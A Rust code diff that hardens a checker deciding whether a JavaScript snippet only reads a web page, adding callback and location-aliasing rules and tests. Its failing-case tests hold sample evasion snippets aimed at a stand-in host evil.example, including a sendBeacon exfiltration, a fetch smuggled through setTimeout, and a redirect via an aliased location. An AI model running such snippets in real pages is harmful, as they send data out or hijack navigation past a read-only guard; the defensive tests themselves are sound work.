@@ -10,8 +10,9 @@
 
 use oxc_allocator::Allocator;
 use oxc_ast::ast::{
-    AssignmentExpression, CallExpression, Expression, ImportExpression, NewExpression,
-    TaggedTemplateExpression, UnaryExpression, UpdateExpression,
+    Argument, AssignmentExpression, CallExpression, Expression, IdentifierReference,
+    ImportExpression, NewExpression, StaticMemberExpression, TaggedTemplateExpression,
+    UnaryExpression, UpdateExpression,
 };
 use oxc_ast_visit::{Visit, walk};
 use oxc_parser::Parser;
@@ -101,6 +102,37 @@ const READING_CALLS: &[&str] = &[
     "forEach",
 ];
 
+/// The reading calls that call a function they are given, and the position of that argument:
+/// it must be written out in the script (`items.map((li) => li.textContent)`), because a
+/// function named by reference may be anything the page holds (`urls.forEach(navigator.sendBeacon,
+/// navigator)`, `[code].forEach(setTimeout)`).
+const CALLBACK_AT: &[(&str, usize)] = &[
+    ("map", 0),
+    ("filter", 0),
+    ("some", 0),
+    ("every", 0),
+    ("find", 0),
+    ("findIndex", 0),
+    ("reduce", 0),
+    ("forEach", 0),
+    ("flatMap", 0),
+    ("from", 1),
+    ("replace", 1),
+    ("replaceAll", 1),
+];
+
+/// Whether an argument given where a reading call expects a function is one the script writes
+/// out, or (for `replace`) a plain string the call inserts.
+fn written_out(argument: &Argument<'_>) -> bool {
+    matches!(
+        argument,
+        Argument::ArrowFunctionExpression(_)
+            | Argument::FunctionExpression(_)
+            | Argument::StringLiteral(_)
+            | Argument::TemplateLiteral(_)
+    )
+}
+
 /// Whether `script` (the source of a function, or of an expression or statements given as a
 /// string) only reads the page. Source that does not parse cannot be shown to read.
 pub(crate) fn only_reads(script: &str) -> bool {
@@ -156,7 +188,34 @@ impl<'a> Visit<'a> for Walk {
         if name.is_some_and(|name| !READING_CALLS.contains(&name)) {
             self.writes = true;
         }
+        if let Some(name) = name
+            && let Some((_, at)) = CALLBACK_AT.iter().find(|(call, _)| *call == name)
+            && it.arguments.get(*at).is_some_and(|arg| !written_out(arg))
+        {
+            self.writes = true;
+        }
         walk::walk_call_expression(self, it);
+    }
+
+    fn visit_static_member_expression(&mut self, it: &StaticMemberExpression<'a>) {
+        if it.property.name.as_str() == "location" {
+            // `window.location` as a value of its own: held in a name, its methods navigate
+            // where the walk no longer sees that they are location's.
+            self.writes = true;
+        }
+        if on_location(&it.object) {
+            // `location.href`, `window.location.pathname`: a read of one of its properties.
+            return;
+        }
+        walk::walk_static_member_expression(self, it);
+    }
+
+    fn visit_identifier_reference(&mut self, it: &IdentifierReference<'a>) {
+        // `location` as a value of its own (`const l = location`), for the same reason; its
+        // properties are read above without coming here.
+        if it.name.as_str() == "location" {
+            self.writes = true;
+        }
     }
 
     fn visit_assignment_expression(&mut self, it: &AssignmentExpression<'a>) {
@@ -216,6 +275,10 @@ mod tests {
             "() => { const items = Array.from(document.querySelectorAll('li')); let n = 0; \
              n = items.filter((li) => li.classList.contains('done')).length; return n === 2; }",
             "async function () { return getComputedStyle(document.body).color; }",
+            "() => location.href",
+            "() => window.location.pathname.startsWith('/todos')",
+            "() => document.title.replace('x', 'y')",
+            "() => Array.from(document.querySelectorAll('li'), (li) => li.textContent)",
         ] {
             assert!(only_reads(script), "{script}");
         }
@@ -240,6 +303,12 @@ mod tests {
             "() => document.querySelector('li').dispatchEvent(new Event('click'))",
             "() => location.replace('/elsewhere')",
             "() => window.location.replace('/elsewhere')",
+            "() => ['https://evil.example/x'].forEach(navigator.sendBeacon, navigator)",
+            "() => ['fetch(\"https://evil.example/\")'].forEach(setTimeout)",
+            "() => Array.from(['https://evil.example/'], window.open)",
+            "() => 'a'.replace('a', alert)",
+            "() => { const l = location; l.replace('https://evil.example/'); }",
+            "() => { const l = window.location; l.assign('/elsewhere'); }",
             "() => {",
         ] {
             assert!(!only_reads(script), "{script}");
